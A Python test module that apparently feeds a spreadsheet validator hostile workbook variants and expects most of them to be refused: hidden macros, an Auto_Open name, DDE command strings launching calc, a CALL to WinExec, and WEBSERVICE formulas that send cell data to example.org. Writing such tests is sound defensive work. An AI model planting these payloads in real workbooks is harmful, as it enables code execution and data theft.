"""What could run, fetch or pretend something; it is named, never followed or run."""

from __future__ import annotations

from tests.hostile.original import (
    COUNT,
    OFFICE,
    REPORT,
    TEXT,
    WORKBOOK,
    before_end,
    changed,
    original,
    with_cell,
    with_content_type,
    with_parts,
    with_relation,
)
from tests.hostile.variant import Kinds
from tests.validators.damage import parts_of

kinds = Kinds("activity")

MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
LINK = "xl/externalLinks/externalLink1.xml"
DRAWING = "xl/drawings/drawing1.xml"
CODE = b"\xd0\xcf\x11\xe0" + bytes(100)


def with_formula(formula: str) -> bytes:
    """The report with a formula in an input cell, whose value is what was reported."""
    return with_cell(COUNT, f'<c r="{COUNT}"><f>{formula}</f><v>55</v></c>')


def with_external_link(target: str, inside: str = "") -> bytes:
    """The report with a link to another file."""
    book = inside or f'<externalBook xmlns:r="{OFFICE}" r:id="rId1"/>'
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    data = with_parts({LINK: f'<externalLink xmlns="{main}">{book}</externalLink>'})
    data = with_relation(WORKBOOK, 60, "externalLink", "externalLinks/externalLink1.xml", data=data)
    return with_relation(LINK, 1, "externalLinkPath", target, external=True, data=data)


def with_name(name: str, formula: str) -> bytes:
    """The report with a defined name."""
    xml = f'<definedName name="{name}">{formula}</definedName>'
    return before_end(WORKBOOK, "definedNames", xml)


@kinds.refused("RP-110")
def macros() -> bytes:
    data = with_relation(WORKBOOK, 60, f"{MICROSOFT}/vbaProject", "vbaProject.bin")
    return with_parts({"xl/vbaProject.bin": CODE}, data)


@kinds.refused("RP-110")
def macros_under_an_innocent_name() -> bytes:
    data = with_relation(WORKBOOK, 60, f"{MICROSOFT}/vbaProject", "theme/theme2.xml")
    return with_parts({"xl/theme/theme2.xml": CODE}, data)


@kinds.refused("RP-110")
def macros_without_a_relation() -> bytes:
    return with_parts({"xl/vbaProject.bin": CODE})


@kinds.refused("RP-110")
def macros_by_content_type_alone() -> bytes:
    data = with_parts({"xl/media/image1.png": CODE})
    return with_content_type("xl/media/image1.png", "application/vnd.ms-office.vbaProject", data)


@kinds.refused("RP-110")
def a_macro_sheet_of_1992() -> bytes:
    data = with_relation(WORKBOOK, 60, f"{MICROSOFT}/xlMacrosheet", "macrosheets/sheet1.xml")
    data = with_parts({"xl/macrosheets/sheet1.xml": _macro_sheet()}, data)
    return _with_sheet("Makro", 60, data)


@kinds.refused("RP-110")
def a_macro_sheet_that_lies_among_the_sheets() -> bytes:
    data = with_relation(WORKBOOK, 60, f"{MICROSOFT}/xlMacrosheet", "worksheets/sheet7.xml")
    data = with_parts({"xl/worksheets/sheet7.xml": _macro_sheet()}, data)
    return _with_sheet("Makro", 60, data)


def _macro_sheet() -> bytes:
    return (
        b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        b"</xm:macrosheet>"
    )


def _with_sheet(name: str, relation: int, data: bytes) -> bytes:
    xml = (
        f'<sheet xmlns:r="{OFFICE}" name="{name}" sheetId="9" state="hidden" r:id="rId{relation}"/>'
    )
    return before_end(WORKBOOK, "sheets", xml, data)


@kinds.accepted("RP-111")
def a_link_to_another_workbook() -> bytes:
    return with_external_link("file:///C:/regnskab.xlsx")


@kinds.accepted("RP-111")
def a_link_to_a_workbook_on_the_network() -> bytes:
    return with_external_link("https://example.org/regnskab.xlsx")


@kinds.accepted("RP-111")
def an_add_in_on_the_network() -> bytes:
    return with_external_link("http://example.org/resultatplan.xlam")


@kinds.accepted()
def the_add_in() -> bytes:
    return with_external_link("file:///C:/Users/aj/AppData/Roaming/AddIns/resultatplan.xlam")


@kinds.accepted("RP-111")
def a_link_under_an_innocent_name() -> bytes:
    parts = parts_of(with_external_link("file:///C:/regnskab.xlsx"))
    parts["xl/theme/link.xml"] = parts.pop(LINK)
    parts["xl/theme/_rels/link.xml.rels"] = parts.pop(
        "xl/externalLinks/_rels/externalLink1.xml.rels"
    )
    relations = parts["xl/_rels/workbook.xml.rels"]
    parts["xl/_rels/workbook.xml.rels"] = relations.replace(
        b"externalLinks/externalLink1.xml", b"theme/link.xml"
    )
    return with_parts(dict(parts))  # The old names are in the original no more than here.


@kinds.refused("RP-112")
def a_dde_link() -> bytes:
    return with_external_link("x", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')


@kinds.refused("RP-112")
def a_link_to_an_object() -> bytes:
    return with_external_link("x", f'<oleLink xmlns:r="{OFFICE}" r:id="rId1" progId="Package"/>')


@kinds.refused("RP-112")
def a_dde_formula() -> bytes:
    return with_formula("cmd|'/c calc'!A0")


@kinds.refused("RP-112")
def an_embedded_object() -> bytes:
    data = with_relation(REPORT, 60, "oleObject", "../embeddings/oleObject1.bin")
    return with_parts({"xl/embeddings/oleObject1.bin": CODE}, data)


@kinds.refused("RP-112")
def an_embedded_object_under_an_innocent_name() -> bytes:
    data = with_relation(REPORT, 60, "oleObject", "../media/image1.png")
    return with_parts({"xl/media/image1.png": CODE}, data)


@kinds.refused("RP-112")
def an_embedded_file() -> bytes:
    data = with_relation(REPORT, 60, "package", "../media/image1.png")
    return with_parts({"xl/media/image1.png": original()}, data)


@kinds.refused("RP-112")
def a_control() -> bytes:
    data = with_relation(REPORT, 60, "control", "../activeX/activeX1.xml")
    return with_parts({"xl/activeX/activeX1.xml": "<ocx/>"}, data)


@kinds.refused("RP-112")
def a_web_extension() -> bytes:
    kind = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
    xml = f'<Relationship Id="rId77" Target="xl/pane.xml" Type="{kind}"/>'
    data = changed("_rels/.rels", "<Relationship ", f"{xml}<Relationship ")
    return with_parts({"xl/pane.xml": "<pane/>"}, data)


@kinds.refused("RP-112")
def buttons_of_its_own() -> bytes:
    kind = f"{MICROSOFT}/ui/extensibility"
    xml = f'<Relationship Id="rId77" Target="xl/ui.xml" Type="{kind}"/>'
    data = changed("_rels/.rels", "<Relationship ", f"{xml}<Relationship ")
    return with_parts({"xl/ui.xml": "<customUI/>"}, data)


@kinds.refused("RP-112")
def a_connection() -> bytes:
    data = with_relation(WORKBOOK, 60, "connections", "connections.xml")
    return with_parts({"xl/connections.xml": "<connections/>"}, data)


@kinds.refused("RP-112")
def a_connection_under_an_innocent_name() -> bytes:
    data = with_relation(WORKBOOK, 60, "connections", "theme/theme3.xml")
    return with_parts({"xl/theme/theme3.xml": "<connections/>"}, data)


@kinds.refused("RP-112")
def a_query() -> bytes:
    data = with_relation(REPORT, 60, "queryTable", "../queryTables/queryTable1.xml")
    return with_parts({"xl/queryTables/queryTable1.xml": "<queryTable/>"}, data)


@kinds.refused("RP-112")
def a_picture_from_the_network() -> bytes:
    return with_relation(DRAWING, 60, "image", "http://example.org/x.png", external=True)


@kinds.refused("RP-112")
def a_template_from_the_network() -> bytes:
    return with_relation(
        WORKBOOK, 60, "attachedTemplate", "http://example.org/x.xltm", external=True
    )


def _with_link(target: str, xml_target: str | None = None) -> bytes:
    data = with_relation(REPORT, 50, "hyperlink", xml_target or target, external=True)
    link = f'<hyperlinks xmlns:r="{OFFICE}"><hyperlink ref="{TEXT}" r:id="rId50"/></hyperlinks>'
    return changed(REPORT, "<printOptions", f"{link}<printOptions", data)


@kinds.accepted("RP-113")
def a_link_to_a_page() -> bytes:
    return _with_link("https://example.org/?a=1&amp;b=2")


@kinds.accepted("RP-113")
def a_link_to_a_file() -> bytes:
    return _with_link("file:///C:/Windows/System32/calc.exe")


@kinds.accepted("RP-113")
def a_link_to_a_share() -> bytes:
    return _with_link("\\\\example.org\\del\\x.xlsx")


@kinds.accepted("RP-113")
def a_link_that_is_a_script() -> bytes:
    return _with_link("javascript:alert(1)")


@kinds.accepted("RP-113")
def a_link_on_a_picture() -> bytes:
    return with_relation(DRAWING, 60, "hyperlink", "https://example.org/", external=True)


@kinds.accepted()
def a_link_within_the_workbook() -> bytes:
    link = f'<hyperlinks><hyperlink ref="{TEXT}" location="Stamdata!A1"/></hyperlinks>'
    return changed(REPORT, "<printOptions", f"{link}<printOptions")


@kinds.refused("RP-112")
def the_function_webservice() -> bytes:
    return with_formula('_xlfn.WEBSERVICE("http://example.org/?"&amp;A1)')


@kinds.refused("RP-112")
def the_function_hyperlink() -> bytes:
    return with_formula('HYPERLINK ("http://example.org","60")')


@kinds.refused("RP-112")
def the_function_rtd() -> bytes:
    return with_formula('IF(1,rtd("x.y",,"z"))')


@kinds.refused("RP-112")
def the_function_image() -> bytes:
    return with_formula('_xlfn.IMAGE("http://example.org/x.png")')


@kinds.refused("RP-112")
def the_function_call() -> bytes:
    return with_formula('CALL("kernel32","WinExec","JCJ","calc",0)')


@kinds.refused("RP-112")
def the_function_of_python() -> bytes:
    return with_formula("_xlfn._xlws.PY(0,0)")


@kinds.refused("RP-112")
def the_function_of_a_cube() -> bytes:
    return with_formula('CUBESET("x","y")')


@kinds.accepted("RP-412")
def a_dangerous_word_in_quotes() -> bytes:
    return with_formula('55+LEN("WEBSERVICE(")*0')


@kinds.accepted("RP-412")
def a_function_that_only_sounds_dangerous() -> bytes:
    return with_formula("55+0*RECALL(1)")


@kinds.refused("RP-112")
def a_name_that_fetches() -> bytes:
    return with_name("tal", '_xlfn.WEBSERVICE("http://example.org")')


@kinds.refused("RP-112")
def a_name_that_runs() -> bytes:
    return with_name("tal", "cmd|'/c calc'!A0")


@kinds.refused("RP-112")
def a_name_that_runs_at_once() -> bytes:
    return with_name("_xlnm.Auto_Open", "Makro!$A$1")


@kinds.refused("RP-112")
def a_name_in_place_of_a_function() -> bytes:
    return with_name("RP_GOAL", "_xlfn.LAMBDA(a,b,c,100)")


@kinds.refused("RP-112")
def a_rule_of_colour_that_fetches() -> bytes:
    rule = (
        '<conditionalFormatting sqref="U1"><cfRule type="expression" priority="99">'
        '<formula>WEBSERVICE("http://example.org")=1</formula></cfRule></conditionalFormatting>'
    )
    return changed(REPORT, "<conditionalFormatting", f"{rule}<conditionalFormatting")


@kinds.refused("RP-112")
def a_rule_of_input_that_fetches() -> bytes:
    return changed(
        REPORT, "</dataValidations>",
        '<dataValidation type="custom" sqref="U1"><formula1>WEBSERVICE("http://x")=1</formula1>'
        "</dataValidation></dataValidations>",
    )  # fmt: skip


def _saying(text: str) -> bytes:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    return with_cell(TEXT, f'<c r="{TEXT}" t="inlineStr"><is><t>{escaped}</t></is></c>')


@kinds.accepted()
def a_text_that_looks_like_a_formula() -> bytes:
    return _saying("=cmd|'/c calc'!A0")


@kinds.accepted()
def a_text_that_begins_with_plus() -> bytes:
    return _saying("+WEBSERVICE(1)")


@kinds.accepted()
def a_text_that_begins_with_minus() -> bytes:
    return _saying("-2+3")


@kinds.accepted()
def a_text_that_begins_with_at() -> bytes:
    return _saying("@SUM(1)")


@kinds.accepted()
def a_text_of_markup() -> bytes:
    return _saying("[bold red]x[/] <script>alert(1)</script> \u202egnp.x")
